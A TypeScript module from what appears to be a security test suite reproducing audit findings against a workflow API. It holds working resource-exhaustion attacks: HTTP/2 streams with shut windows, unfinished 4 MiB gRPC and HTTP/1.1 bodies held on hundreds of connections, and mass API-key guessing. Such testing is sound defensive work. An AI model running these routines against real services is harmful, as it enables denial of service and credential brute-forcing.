// Findings 14, 15 and 16: bodies and keys; and of 13 the replies that need a key.

import { randomUUID } from "node:crypto";
import { once } from "node:events";
import type { Attack } from "../attack.ts";
import { type Attacker, grpcFrame } from "../attacker.ts";
import { holdBodies } from "../hold-bodies.ts";
import { callApi, publishLine } from "../tenants.ts";

const messageBytes = 4 * 1024 ** 2;
const unfinished = grpcFrame(Buffer.alloc(messageBytes - 100), messageBytes);

export const bodies: readonly Attack[] = [
  {
    id: "13d",
    title: "a response of 1 MB on 128 streams of HTTP/2 whose window stays shut, 50 connections",
    prepare: async ({ tenant }) => {
      await publishLine(tenant, "large", [{ response: { data: "{{event.body}}" } }]);
      const headers = { linked_account_id: tenant.account, prefer: "wait=10" };
      const body = { s: "x".repeat(1_000_000) };
      const { execution_id } = await callApi(tenant, "POST", "/api/v1/workflow/large/execute", body, headers);
      return { id: String(execution_id) };
    },
    run: async (attacker) => {
      const { given, key, account } = attacker.options;
      const path = `/api/v1/execution/${given["id"]}/response`;
      await attacker.repeat(50, async () => {
        const session = attacker.connectHttp2();
        session.settings({ initialWindowSize: 0 });
        for (let stream = 0; stream < 128; stream += 1) {
          const request = session.request({ ":path": path, "x-api-key": key, linked_account_id: account });
          request.on("error", () => attacker.count("stream failed"));
          request.once("response", (head) => attacker.count(`stream ${head[":status"]}`));
        }
        await once(session, "close", { signal: attacker.signal });
      });
    },
  },
  {
    id: "14",
    title: "unfinished bodies of 4 MiB to ExecuteWorkflow with a good key, 4 connections with 128 streams each",
    run: (attacker) => leaveUnfinished(attacker, "/flowcall.v1.ExecutionService/ExecuteWorkflow", "application/grpc"),
  },
  {
    id: "14b",
    title: "the same over Connect and gRPC-Web, to a method that only reads",
    run: async (attacker) => {
      const path = "/flowcall.v1.WorkflowService/ValidateDefinition";
      await Promise.all(
        ["application/grpc-web", "application/proto"].map((type) => leaveUnfinished(attacker, path, type)),
      );
    },
  },
  {
    id: "14c",
    title: "unfinished bodies of 4 MB over HTTP/1.1 and REST, 500 connections",
    prepare: async ({ tenant }) => {
      await publishLine(tenant, "echo", [{ response: { data: "1" } }]);
      return {};
    },
    run: async (attacker) => {
      const { key, account } = attacker.options;
      const head = `POST /api/v1/workflow/echo/execute HTTP/1.1\r\nhost: a\r\nx-api-key: ${key}\r\nlinked_account_id: ${account}\r\ncontent-type: application/json\r\ncontent-length: 4000000\r\n\r\n`;
      await holdBodies(attacker, head);
    },
  },
  {
    id: "15",
    title: "keys that do not exist, all different, 1,000 requests at a time over 10 connections",
    isVolume: true,
    run: (attacker) => guessKeys(attacker, () => `tk${randomUUID()}`),
  },
  {
    id: "15b",
    title: "keys that are changed by a few characters of a good one",
    isVolume: true,
    run: (attacker) => {
      const { key } = attacker.options;
      const letters = "0123456789abcdefghijklmnopqrstuvwxyz";
      const letter = () => letters[Math.floor(Math.random() * letters.length)];
      return guessKeys(attacker, () => key.replace(/.{4}$/, () => `${letter()}${letter()}${letter()}${letter()}`));
    },
  },
  {
    id: "16",
    title: "1 MB of payload a call, 8 calls at a time with one key",
    isVolume: true,
    prepare: async ({ tenant }) => {
      await publishLine(tenant, "echo", [{ response: { data: "1" } }]);
      return {};
    },
    run: async (attacker) => {
      const body = JSON.stringify({ s: "x".repeat(1_040_000) });
      await attacker.repeat(8, async () => {
        const { status } = await attacker.callText("echo", body);
        if (status === 200) attacker.count("MB", 1.04);
      });
    },
  },
];

async function leaveUnfinished(attacker: Attacker, path: string, type: string): Promise<void> {
  const { key } = attacker.options;
  await attacker.repeat(4, async () => {
    const session = attacker.connectHttp2();
    const streams = Array.from({ length: 128 }, async () => {
      const stream = attacker.openStream(session, path, { "x-api-key": key, "content-type": type }).resume();
      stream.write(type === "application/proto" ? Buffer.alloc(messageBytes - 100) : unfinished);
      attacker.count("bodies");
      if (!stream.closed) await once(stream, "close");
    });
    await Promise.race([Promise.all(streams), once(session, "close", { signal: attacker.signal })]);
    session.destroy();
    await attacker.pause(20);
  });
}

async function guessKeys(attacker: Attacker, guess: () => string): Promise<void> {
  await attacker.repeat(10, async () => {
    const session = attacker.connectHttp2();
    const ask = async () => {
      const stream = session.request({ ":path": "/api/v1/execution", "x-api-key": guess() });
      stream.on("error", () => attacker.count("stream failed"));
      stream.once("response", (head) => attacker.count(String(head[":status"])));
      stream.resume();
      await once(stream, "close");
    };
    const lane = async () => {
      while (!attacker.isOver && !session.destroyed) await ask().catch(() => attacker.pause(20));
    };
    await Promise.race([
      Promise.all(Array.from({ length: 100 }, lane)),
      once(session, "close", { signal: attacker.signal }),
    ]);
    session.destroy();
    await attacker.pause(20);
  });
}
